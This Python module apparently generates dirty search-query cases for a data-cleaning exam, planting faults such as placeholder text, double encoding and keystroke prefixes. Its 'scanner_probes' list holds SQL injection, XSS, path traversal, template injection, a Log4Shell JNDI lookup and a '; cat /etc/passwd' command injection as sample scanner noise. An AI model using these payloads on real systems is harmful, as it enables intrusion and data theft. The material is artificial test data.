"""Searches that nobody typed so."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from typing import Any

from baihuo.exam.independent.dirt.fourth.common import LEFT, Rows, keys, kind, newcomers, sound
from baihuo.exam.independent.dirt.second.common import FIXED, again, groups, of, only
from baihuo.exam.independent.kinds import Bed, Kind

Counted = Counter[Any]


def usual(bed: Bed) -> Counted:
    """How many searches have each text."""
    return Counter(r.values.get("query_text") for r in sound(bed, "search"))


def whole_page(
    name: str,
    words: str,
    n: int,
    change: Callable[[Bed, str], str],
    *,
    fit: Callable[[str, Counted], bool] = lambda text, typed: True,
    is_lost: bool = False,
) -> None:
    """Register a kind: another text in all rows of ``n`` pages, each row a case."""

    def plant(bed: Bed, own: Kind) -> None:
        typed = usual(bed)

        def is_fit(rows: Rows) -> bool:
            searches = only(rows, "search")
            text = searches[0].values.get("query_text") if searches else None
            return isinstance(text, str) and len(rows) >= 5 and fit(text, typed)

        for rows in bed.choose(groups(bed, "query_id", is_fit), n):
            clean = only(rows, "search")[0].values["query_text"]
            text = change(bed, clean)
            for row in rows:
                if row.values.get("query_text"):
                    row.values["query_text"] = text
                    right = None if is_lost else clean
                    bed.case(own, [row], field="query_text", clean=right, related=keys(rows))

    kind(name, words, actions=LEFT if is_lost else FIXED)(plant)


whole_page(
    "query_is_the_box_placeholder",
    "the grey words of the search box, as the text of a page",
    8,
    lambda bed, text: bed.rng.choice(
        [
            "请输入商品名称",
            "搜索商品、品牌",
            "Search products, brands…",
            "What are you looking for?",
        ]
    ),
    is_lost=True,
)
whole_page(
    "query_is_object_object",
    "an object of JavaScript made text",
    6,
    lambda bed, text: bed.rng.choice(["[object Object]", "[object HTMLInputElement]"]),
    is_lost=True,
)
whole_page(
    "query_plus_for_spaces",
    "a form's plus signs, where others typed blanks",
    6,
    lambda bed, text: text.replace(" ", "+"),
    fit=lambda text, typed: (
        text.isascii() and " " in text and text.replace(" ", "").isalpha() and typed[text] > 1
    ),
)
whole_page(
    "query_percent_encoded_twice",
    "a search that is a usual one once it is decoded twice",
    6,
    lambda bed, text: "".join(f"%25{byte:02X}" for byte in text.encode()),
    fit=lambda text, typed: not text.isascii() and len(text) < 8 and typed[text] > 1,
)
whole_page(
    "query_with_highlight_tags",
    "the marks of a suggestion in the text of a page",
    6,
    lambda bed, text: f"<em>{text[:2]}</em>{text[2:]}",
    fit=lambda text, typed: len(text) > 3,
)
whole_page(
    "query_pasted_twice",
    "a usual search twice, with nothing between",
    6,
    lambda bed, text: text + text,
    fit=lambda text, typed: (
        typed[text] > 2 and len(text) > 3 and not any(c.isdigit() for c in text)
    ),
)


@kind(
    "keystroke_searches",
    "the first letters of a search within half a second before it, none with a page",
    actions=FIXED,
)
def keystroke_searches(bed: Bed, own: Kind) -> None:
    def is_fit(values: dict[str, Any]) -> bool:
        text = str(values.get("query_text"))
        return values["event_type"] == "search" and text.isascii() and len(text) >= 6

    for row in bed.take(own.table, 14, is_fit):
        text, gap = row.values["query_text"], bed.rng.randrange(120_000, 170_000)
        for n in range(1, 5):
            own_page = f"{row.values['query_id']}k{n}"
            added = again(bed, row, (n - 5) * gap, query_text=text[: n + 1], query_id=own_page)
            bed.case(own, [added], field="query_text", clean=text, related=(row.key,))


PINYIN = {
    "台灯": "tai'deng",
    "充电宝": "chong'dian'bao",
    "蓝牙耳机": "lan'ya'er'ji",
    "帐篷": "zhang'peng",
    "瑜伽垫": "yu'jia'dian",
    "洗发水": "xi'fa'shui",
}


def syllables(text: Any) -> tuple[str, str] | None:
    """The word that a search ends in, and what is typed for it.

    >>> syllables("黑色铝合金台灯"), syllables("desk lamp")
    (('台灯', "tai'deng"), None)
    """
    return next((pair for pair in PINYIN.items() if str(text).endswith(pair[0])), None)


@kind(
    "pinyin_of_unfinished_input",
    "the letters of a word a second before the visitor's search for it, and no page of theirs",
    actions=FIXED,
)
def pinyin_of_unfinished_input(bed: Bed, own: Kind) -> None:
    is_search = of("search")
    for row in bed.take(
        own.table, own.cases, lambda v: is_search(v) and syllables(v.get("query_text")) is not None
    ):
        word, letters = syllables(row.values["query_text"]) or ("", "")
        earlier, own_page = -bed.rng.randrange(700_000, 1_300_000), f"{row.values['query_id']}k"
        added = again(bed, row, earlier, query_text=letters, query_id=own_page)
        bed.case(own, [added], field="query_text", clean=word, related=(row.key,))


@kind("scanner_probes", "injections, scripts and paths in the search box", actions=LEFT, cases=40)
def scanner_probes(bed: Bed, own: Kind) -> None:
    texts = (
        "' OR 1=1--",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://a.b.c/x}",
        "1' AND SLEEP(5)#",
        "admin' UNION SELECT null,version()--",
        "${7*7}",
        "; cat /etc/passwd",
        '"><img src=x onerror=alert(1)>',
    )
    newcomers(bed, own, 8, 5, texts)


@kind(
    "spam_advertisements_as_searches",
    "searches that advertise another business, with its contact",
    actions=LEFT,
)
def spam_advertisements_as_searches(bed: Bed, own: Kind) -> None:
    texts = (
        "加微信vx88991234日结兼职刷单",
        "澳门新葡京www.xpj8888.com开户送888",
        "代开发票＋扣扣 2938811",
        "Buy cheap followers at www.fast-likes.top",
        "办证刻章联系TG@zz666",
        "Best online casino bonus visit bet77.vip now",
        "六合彩内部资料加群 77812345",
    )
    newcomers(bed, own, 10, 3, texts)


@kind("qa_searches", "searches that say that they are a test", actions=LEFT)
def qa_searches(bed: Bed, own: Kind) -> None:
    texts = (
        "测试请忽略",
        "QA test - ignore",
        "autotest_20260912_003",
        "自动化测试用例01",
        "smoke test search",
        "selenium test query",
        "压测流量-勿动",
    )
    newcomers(bed, own, 6, 5, texts)
